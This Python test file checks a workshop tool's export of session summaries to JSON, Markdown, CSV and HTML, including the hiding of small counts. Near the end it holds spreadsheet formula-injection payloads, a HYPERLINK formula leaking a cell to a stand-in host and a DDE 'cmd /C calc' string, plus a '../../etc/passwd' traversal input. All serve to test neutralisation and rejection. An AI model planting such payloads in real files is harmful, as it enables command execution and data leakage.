"""Session summaries in four formats: figures from the stored answers, small counts hidden."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import re
import subprocess
import sys
from collections import Counter
from html import unescape
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.chromium import CHROMIUM, MISSING, screenshot
from tests.test_export_support import png_pixels, run_session, survey, without_example_note
from workshop.cli import main
from workshop.export import FORMATS, build_summary, write_summary
from workshop.export.formats import markdown, render
from workshop.store import Answer
from workshop.store.sessions import SessionRecord, read_session

TOO_FEW = "too few answers to show anonymously"
TOO_FEW_NL = "te weinig antwoorden om anoniem te tonen"

# test-length: choice 140 / 280 (correct) / 500; test-link: number, 23 correct; test-comfort: 1–5
ANSWERS = {
    "test-length": [2, 2, 2, 1, None, 2, 3],  # 7 answers, 4 correct
    "test-link": [23, 23, 140],  # 3 answers: hidden everywhere
    "test-comfort": [4, 5, 3, 4, 2],  # 5 answers, mean 3.6
}
SURVEY = [  # x: post length (2 right) and mention (1 right); 6 respondents, 8 of 12 right
    {"survey-x-post-length": 2, "survey-x-mention": 1},
    {"survey-x-post-length": 2, "survey-x-mention": 1},
    {"survey-x-post-length": 1, "survey-x-mention": 1},
    {"survey-x-post-length": 1, "survey-x-mention": 2},
    {"survey-x-post-length": None, "survey-x-mention": 1},
    {"survey-x-post-length": 2, "survey-x-mention": 1},
]


@pytest.fixture
def session(library, isolated):
    survey(isolated, "sales", SURVEY)
    return run_session(library, isolated, "sales", ANSWERS)


def tallies(record, question: str) -> Counter:
    counts: Counter = Counter()
    for answer in record.answers:
        if answer.question == question:
            counts[answer.value] += answer.count
    return counts


def test_json_figures_come_from_the_stored_answers(library, isolated, session):
    stored = tallies(session, "test-length")
    assert sum(stored.values()) == 7
    document = json.loads(render(build_summary(session, library, isolated), "json"))
    assert document["format_version"] == 1
    assert document["session"] == {
        "id": session.id,
        "group": "sales",
        "date": session.info["date"],
        "language": "en",
        "finished": True,
        "planned_minutes": 10,
    }
    questions = {q["question"]: q for q in document["questions"]}
    length = questions["test-length"]
    assert length["answers"] == sum(stored.values())
    assert length["share_correct"] == round(stored[2] / 7, 4)
    assert [(o["label"], o["count"], o["correct"]) for o in length["distribution"]] == [
        ("140", stored[1], False),
        ("280", stored[2], True),
        ("500", stored[3], False),
        ("Don't know", stored[None], False),
    ]
    comfort = questions["test-comfort"]
    assert comfort["mean"] == pytest.approx(3.6)
    assert [o["count"] for o in comfort["distribution"]] == [0, 1, 1, 2, 1]
    assert comfort["share_correct"] is None  # an opinion has no right answer
    # The session score counts only the questions that are shown: test-length alone.
    assert document["score"] == {
        "answers": 7,
        "share_correct": round(4 / 7, 4),
        "suppressed": False,
    }
    assert document["answers"] == 12  # 7 + 5: the hidden question's count stays hidden
    assert document["survey_respondents"] == 6
    (x,) = document["topics"]
    assert x["topic"] == "x"
    assert x["baseline"] == round(8 / 12, 4)
    assert x["result"] == round(4 / 7, 4)
    assert x["gain"] == round(4 / 7 - 8 / 12, 4)
    assert x["weak"] is True
    assert document["weak_topics"][0]["topic"] == "x"
    assert document["weak_topics"][0]["source"] == "session"
    assert any("Test quiz" in line for line in document["advice"])
    assert any("weekly social-media moment" in line for line in document["advice"])


def test_markdown_csv_and_html_show_the_same_figures(library, isolated, session):
    summary = build_summary(session, library, isolated)
    text = markdown(summary)
    assert "| 280 ✓ correct | 4 | 57% |" in text
    assert "| Don't know | 1 | 14% |" in text
    assert "Correct answer: 280 · 7 answers · 57% correct" in text
    assert "5 answers · mean 3.6" in text
    assert "| X (formerly Twitter) | 67% | 57% | -10 |" in text
    assert "10 minutes planned" in text

    rows = list(csv.DictReader(io.StringIO(render(summary, "csv").decode("utf-8-sig"))))
    assert [row["question_id"] for row in rows] == ["test-length", "test-link", "test-comfort"]
    length = rows[0]
    assert (length["answers"], length["percent_correct"], length["dont_know"]) == ("7", "57", "1")
    assert length["distribution"] == "140: 1; 280: 4; 500: 1; Don't know: 1"
    assert length["suppressed"] == ""
    assert rows[2]["mean"] == "3.6"

    page = render(summary, "html").decode("utf-8")
    blocks = [_text(block) for block in page.split('<div class="question')[1:]]
    assert "280 ✓ correct 4 57%" in blocks[0]
    assert "Don't know 1 14%" in blocks[0]
    assert "7 answers · 57% correct" in blocks[0]
    assert "mean 3.6" in blocks[2]


def _text(html: str) -> str:
    """The visible text of an HTML fragment, whitespace collapsed."""
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())


def test_no_format_shows_a_figure_from_fewer_than_five_answers(library, isolated, session):
    summary = build_summary(session, library, isolated)
    link = next(q for q in summary.questions if q.id == "test-link")
    assert link.suppressed and link.distribution is None and link.share_correct is None
    # 3 answers, 2 of them right: none of these may appear for that question.
    leaks = re.compile(r"\b(3|2|1) answers\b|67%|66\.7|0\.6667|33%")

    document = json.loads(render(summary, "json"))
    hidden = next(q for q in document["questions"] if q["question"] == "test-link")
    assert hidden["answers"] is None and hidden["distribution"] is None
    assert hidden["share_correct"] is None and hidden["mean"] is None and hidden["suppressed"]

    text = markdown(summary)
    section = text.split("### 2.")[1].split("###")[0]
    assert TOO_FEW in section
    assert not leaks.search(section) and "|" not in section

    row = next(
        r
        for r in csv.DictReader(io.StringIO(render(summary, "csv").decode("utf-8-sig")))
        if r["question_id"] == "test-link"
    )
    assert row["suppressed"] == TOO_FEW
    for column in ("answers", "percent_correct", "mean", "dont_know", "distribution"):
        assert row[column] == ""

    page = render(summary, "html").decode("utf-8")
    block = _text(page.split('<div class="question')[2].split('<div class="question')[0])
    assert TOO_FEW in block
    assert "%" not in block and not leaks.search(block)


def test_a_session_with_too_few_answers_shows_no_figure_at_all(library, isolated):
    record = run_session(library, isolated, "hr", {"test-length": [2, 2, 1]})
    summary = build_summary(record, library, isolated)
    assert summary.score is None and summary.answers is None
    assert all(t.result is None for t in summary.topics)
    document = json.loads(render(summary, "json"))
    assert document["score"] == {"answers": None, "share_correct": None, "suppressed": True}
    for fmt in FORMATS:
        content = render(summary, fmt).decode("utf-8-sig")
        assert "67%" not in content and "0.6667" not in content and "3 answers" not in content
    text = markdown(summary)
    assert TOO_FEW in text
    assert "Nothing measured with enough answers" in text and "No topic below" not in text


def test_everything_is_in_the_sessions_language(library, isolated):
    record = run_session(library, isolated, "sales", ANSWERS, language="nl")
    summary = build_summary(record, library, isolated)
    text = markdown(summary)
    assert "Samenvatting sessie · sales" in text
    assert "Hoeveel tekens mag een bericht op X hebben?" in text
    assert "| Weet ik niet | 1 | 14% |" in text
    assert "gemiddeld 3,6" in text
    assert TOO_FEW_NL in text
    assert "wekelijkse social-mediamoment" in text
    header = render(summary, "csv").decode("utf-8-sig").splitlines()[0]
    assert header.startswith("sessie;groep;datum;ronde")
    assert 'lang="nl"' in render(summary, "html").decode("utf-8")


def test_html_is_one_self_contained_escaped_printable_page(library, isolated, session):
    page = render(build_summary(session, library, isolated), "html").decode("utf-8")
    assert "@media print" in page and "@page" in page
    assert not re.search(r"<(link|script|img|iframe)\b", page)
    assert "http://" not in page and "https://" not in page
    assert "<code>workshop followup --group sales</code>" in page


def test_html_escapes_what_comes_from_content(library, isolated, tmp_path):
    own = tmp_path / "own"
    own.mkdir()
    source = (Path(__file__).parent / "content" / "test-quiz.yaml").read_text("utf-8")
    (own / "test-quiz.yaml").write_text(
        source.replace("How many characters may a post on X have?", "<b>Bold</b> & co?"), "utf-8"
    )
    from workshop.content import load_library

    content = load_library([own])
    record = run_session(content, isolated, "sales", ANSWERS)
    page = render(build_summary(record, content, isolated), "html").decode("utf-8")
    assert "&lt;b&gt;Bold&lt;/b&gt; &amp; co?" in page
    assert "<b>Bold</b>" not in page


def test_write_summary_defaults_to_the_exports_folder(library, isolated, session):
    path = write_summary(session, library, isolated, "json")
    assert path == isolated / "exports" / f"{session.id}.json"
    assert json.loads(path.read_text("utf-8"))["session"]["id"] == session.id
    assert not list(path.parent.glob(".*.tmp"))


@pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
def test_headless_chromium_draws_the_page(library, isolated, session, tmp_path):
    page = write_summary(session, library, isolated, "html")
    png = tmp_path / "summary.png"
    screenshot(page.resolve().as_uri(), png, tmp_path / "profile", 1200, 1600)
    width, height, colours = png_pixels(png)
    assert (width, height) == (1200, 1600)
    assert len(colours) > 1  # not blank: text, bars and borders in several colours


# The command line --------------------------------------------------------------------------


def export(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["export", "--modules", str(Path(__file__).parent / "content"), *args])
    captured = capsys.readouterr()
    return code, captured.out, without_example_note(captured.err)


def test_cli_writes_each_format_and_prints_the_path(library, isolated, session, capsys):
    for fmt in FORMATS:
        code, out, err = export(capsys, session.id, "--format", fmt)
        path = isolated / "exports" / f"{session.id}.{fmt}"
        assert (code, err) == (0, "")
        assert out.strip() == f"Written: {path.relative_to(Path.cwd())}"
        assert path.is_file()


def test_cli_last_picks_the_newest_session_of_the_group(library, isolated, capsys):
    run_session(library, isolated, "sales", ANSWERS)
    newest = run_session(library, isolated, "sales", {"test-length": [2] * 5})
    run_session(library, isolated, "it", {"test-length": [1] * 5})
    code, out, _ = export(capsys, "--last", "--group", "sales", "--format", "json")
    assert code == 0
    written = isolated / "exports" / f"{newest.id}.json"
    assert str(written.relative_to(Path.cwd())) in out


def test_cli_output_path_force_and_refusal(library, isolated, session, capsys, tmp_path):
    target = tmp_path / "report.md"
    assert export(capsys, session.id, "--format", "md", "-o", str(target))[0] == 0
    first = target.read_bytes()
    target.write_text("kept", "utf-8")
    code, out, err = export(capsys, session.id, "--format", "md", "-o", str(target))
    assert code == 1 and out == ""
    assert err.strip().splitlines() == [
        f"Error: {target} already exists with other content; add --force to replace it, or "
        "choose another path with -o"
    ]
    assert target.read_text("utf-8") == "kept"
    assert export(capsys, session.id, "--format", "md", "-o", str(target), "--force")[0] == 0
    assert target.read_bytes() == first
    folder = tmp_path / "folder"
    folder.mkdir()
    assert export(capsys, session.id, "--format", "csv", "-o", str(folder))[0] == 0
    assert (folder / f"{session.id}.csv").is_file()


def one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), err
    assert "Traceback" not in err
    return lines[0]


def nothing_written(data: Path) -> bool:
    exports = data / "exports"
    return not exports.exists() or not any(exports.iterdir())


def test_cli_bad_input_is_one_line_and_writes_nothing(library, isolated, session, capsys, tmp_path):
    code, _, err = export(capsys, "2026-01-01-nobody-1")
    assert code == 1 and "no session “2026-01-01-nobody-1”" in one_error_line(err)
    code, _, err = export(capsys, "../../etc/passwd")
    assert code == 1 and "no session" in one_error_line(err)
    code, _, err = export(capsys, session.id, "--last")
    assert code == 2 and "not both" in one_error_line(err)
    code, _, err = export(capsys)
    assert code == 2 and "--last" in one_error_line(err)
    code, _, err = export(capsys, "--last", "--group", "nobody")
    assert code == 1 and "no sessions of nobody" in one_error_line(err)
    assert nothing_written(isolated)

    empty = run_session(library, isolated, "it", {})
    code, _, err = export(capsys, empty.id)
    assert code == 1 and "has no answers" in one_error_line(err)
    assert nothing_written(isolated)

    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder", "utf-8")
    code, _, err = export(capsys, session.id, "-o", str(blocker / "report.html"))
    assert code == 1 and "cannot write" in one_error_line(err)
    assert blocker.read_text("utf-8") == "not a folder"
    code, _, err = export(capsys, session.id, "-o", str(tmp_path / "missing" / "report.html"))
    assert code == 1 and "does not exist" in one_error_line(err)
    assert not (tmp_path / "missing").exists()
    assert nothing_written(isolated)


def test_cli_unreadable_session_file_is_a_clear_error(library, isolated, session, capsys):
    broken = isolated / "2026-01-02-sales-1.json"
    broken.write_text("{ not json", "utf-8")
    code, _, err = export(capsys, "2026-01-02-sales-1")
    assert code == 1 and "cannot be read as a session file" in one_error_line(err)
    assert read_session(session.path) is not None


def test_cli_through_a_real_process(library, isolated, session):
    environment = {**os.environ, "WORKSHOP_DATA": str(isolated), "WORKSHOP_LANG": "en"}
    content = str(Path(__file__).parent / "content")
    command = [sys.executable, "-m", "workshop", "export", "--last", "--format", "csv",
               "--modules", content]

    def export_last() -> subprocess.CompletedProcess[str]:
        return subprocess.run(command, capture_output=True, text=True, env=environment,
                              timeout=120)

    result = export_last()
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Written: ")
    assert (isolated / "exports" / f"{session.id}.csv").is_file()
    again = export_last()  # the same summary: said where it is, not rewritten
    assert (again.returncode, without_example_note(again.stderr)) == (0, "")
    assert again.stdout.startswith("Already there, unchanged: ")
    (isolated / "exports" / f"{session.id}.csv").write_text("edited", "utf-8")
    edited = export_last()
    assert edited.returncode == 1
    assert "Traceback" not in edited.stderr and "already exists" in edited.stderr


def test_cli_and_domain_agree_on_the_formats():
    from workshop.cli import export_command

    assert export_command.FORMATS == FORMATS


def test_every_key_the_templates_ask_for_is_in_the_catalogue():
    from workshop import i18n

    folder = Path(__file__).parents[1] / "workshop" / "export" / "templates"
    keys = set()
    for template in folder.glob("*.html"):
        keys |= set(re.findall(r"'([a-z_]+\.[a-z_]+)'", template.read_text("utf-8")))
    assert "summary.title" in keys
    assert keys <= set(i18n.catalog())


# Property: whatever the answers, no figure comes from fewer than five of them ---------------

VALUES = {
    "test-length": st.sampled_from([1, 2, 3, None]),
    "test-link": st.sampled_from([23.0, 140.0, None]),
    "test-comfort": st.sampled_from([1, 2, 3, 4, 5]),
}


@st.composite
def answer_sets(draw):
    answers = []
    for number, (question, values) in enumerate(VALUES.items(), start=1):
        for value in draw(st.lists(values, max_size=8)):
            answers.append(Answer(number, "test-quiz", question, value))
    return answers


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(answers=answer_sets())
def test_no_figure_ever_comes_from_fewer_than_five_answers(library, isolated, answers):
    if not answers:
        return
    info = {"group": "sales", "date": "2026-11-27", "language": "en", "agenda": ["test-quiz"]}
    record = SessionRecord("2026-11-27-sales-1", isolated / "x.json", info, answers)
    document = json.loads(render(build_summary(record, library, isolated), "json"))
    counts = Counter(a.question for a in answers)
    for question in document["questions"]:
        shown = counts[question["question"]] >= 5
        assert question["suppressed"] is not shown
        if not shown:
            assert question["answers"] is None and question["distribution"] is None
            assert question["share_correct"] is None and question["mean"] is None
    for figure in (document["score"]["answers"], document["answers"]):
        assert figure is None or figure >= 5
    for topic in document["topics"]:
        assert topic["result"] is None or topic["answers"] >= 5
    shown_questions = [q for q in document["questions"] if not q["suppressed"]]
    assert (document["answers"] or 0) == sum(q["answers"] for q in shown_questions)


HOSTILE_TEXTS = {  # what a trainer may type, and what a spreadsheet would run
    "text": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "140": "+cmd|' /C calc'!A0",
    "280": "-2+3",
    "500": "@SUM(1+1)",
}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, isolated, capsys):
    from workshop.content import load_library

    own = tmp_path / "own"
    own.mkdir()
    module = (Path(__file__).parent / "content" / "test-quiz.yaml").read_text("utf-8")
    module = module.replace(
        '{en: "How many characters may a post on X have?"',
        "{en: " + json.dumps(HOSTILE_TEXTS["text"]),
    ).replace(
        "options: [140, 280, 500]",
        "options: " + json.dumps([HOSTILE_TEXTS[o] for o in ("140", "280", "500")]),
    )
    (own / "test-quiz.yaml").write_text(module, "utf-8")
    library = load_library([own])
    session = run_session(library, isolated, "sales", {"test-length": [1, 2, 3, 2, 2, None]})
    folder = tmp_path / "out"
    folder.mkdir()
    code = main(["export", session.id, "--format", "csv", "-o", str(folder), "--modules", str(own)])
    assert code == 0, capsys.readouterr().err
    raw = (folder / f"{session.id}.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(raw)))
    length = rows[0]
    assert length["question"] == "'" + HOSTILE_TEXTS["text"]
    assert length["correct_answer"] == "'" + HOSTILE_TEXTS["280"]
    assert length["distribution"].startswith("'" + HOSTILE_TEXTS["140"] + ": 1; ")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or re.fullmatch(r"-\d+([.,]\d+)?", value), value


@pytest.mark.parametrize(
    ("language", "separator", "mean", "header"),
    [("nl", ";", "3,6", "sessie"), ("en", ",", "3.6", "session")],
)
def test_the_csv_opens_in_excel_of_the_sessions_language(
    library, isolated, tmp_path, capsys, language, separator, mean, header
):
    """Dutch Excel splits on semicolons and reads decimal commas; English Excel on commas.
    Both files start with the UTF-8 byte-order mark, by which Excel knows the encoding."""
    record = run_session(library, isolated, "sales", ANSWERS, language=language)
    folder = tmp_path / "out"
    folder.mkdir()
    assert export(capsys, record.id, "--format", "csv", "-o", str(folder))[0] == 0
    raw = (folder / f"{record.id}.csv").read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw.decode("utf-8-sig")
    assert csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,").delimiter == separator
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    assert rows[0][0] == header and len(rows[0]) == 16
    assert all(len(row) == 16 for row in rows), "every row splits into the 16 columns"
    by_id = {row[5]: row for row in rows[1:]}
    assert by_id["test-comfort"][11] == mean
    assert by_id["test-length"][13].count(";") == 3, "a cell holding the separator stays one"


def test_an_export_killed_mid_write_leaves_no_temporary_file_for_long(
    library, isolated, session, capsys
):
    folder = isolated / "exports"
    folder.mkdir()
    target = folder / f"{session.id}.md"
    old = folder / f".{target.name}.0badcafe.tmp"  # as write_atomic names its file
    young = folder / f".{target.name}.1badcafe.tmp"  # another export's, under way
    for leftover in (old, young):
        leftover.write_bytes(b"half an exp")
    os.utime(old, (os.path.getmtime(old) - 3600,) * 2)
    code, _, err = export(capsys, session.id, "--format", "md")
    assert (code, err) == (0, "")
    assert target.is_file() and not old.exists() and young.exists()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-10", "-10"),  # a number stays a number
        ("-2,5", "-2,5"),
        ("e=mc2", "e=mc2"),
        (3, 3),
    ],
)
def test_a_csv_cell_starting_with_a_tab_or_return_is_neutralised_too(value, written):
    from workshop.export.formats import cell

    assert cell(value) == written
